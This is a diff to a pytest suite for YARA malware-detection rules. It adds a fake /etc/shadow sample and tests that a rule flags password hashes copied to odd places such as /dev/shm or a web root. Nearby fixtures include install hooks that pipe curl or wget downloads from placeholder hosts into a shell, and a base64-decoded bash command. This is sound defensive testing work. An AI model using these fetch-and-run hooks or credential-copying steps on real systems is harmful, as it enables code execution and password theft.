@@ -32,7 +32,9 @@ def match(compiled: yara.Rules, data: bytes) -> set[str]:
     return {found.rule for found in compiled.match(data=data, timeout=30)}
 
 
+SHADOW = b"root:$y$j9T$abc/def.ghi$xyz:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n"
 POSITIVES: list[tuple[str, bytes]] = [
+    ("password_hashes_copied", b"etc/shadow".ljust(512, b"\0") + SHADOW.ljust(512, b"\0")),
     ("install_hook_fetches_code", b'{"scripts": {"postinstall": "curl -fsSL http://cdn.invalid/i.sh | sh"}}'),
     ("install_hook_fetches_code", b'{"scripts": {"preinstall": "wget -q http://192.0.2.1/x -O x && chmod +x x && ./x"}}'),
     ("install_hook_fetches_code", b'{"scripts": {"install": "echo aWQ= | base64 -d | bash"}}'),
@@ -188,6 +190,22 @@ def test_preloaded_libraries(compiled: yara.Rules, tmp_path: Path, body: str, ex
     source.write_text(PRELOAD_SOURCE.replace("{body}", body))
     subprocess.run(["gcc", "-shared", "-fPIC", "-s", "-o", library, source, "-ldl"], check=True)
     assert match(compiled, library.read_bytes()) & {"rootkit_preload_library", "rootkit_preload_hider"} == expected
+
+
+@pytest.mark.parametrize(
+    ("path", "found"),
+    [
+        ("dev/shm/.s", True),
+        ("etc/shadow", False),
+        ("etc/shadow-", False),
+        ("var/backups/shadow.bak", False),
+        ("var/www/html/x", True),
+        ("", False),
+    ],
+)
+def test_the_password_file_is_only_reported_elsewhere(compiled: yara.Rules, path: str, found: bool) -> None:
+    matched = {match.rule for match in compiled.match(data=SHADOW, externals={"filepath": path}, timeout=30)}
+    assert ("password_hashes_copied" in matched) is found
 
 
 def test_every_rule_has_a_positive_and_says_what_it_is() -> None:
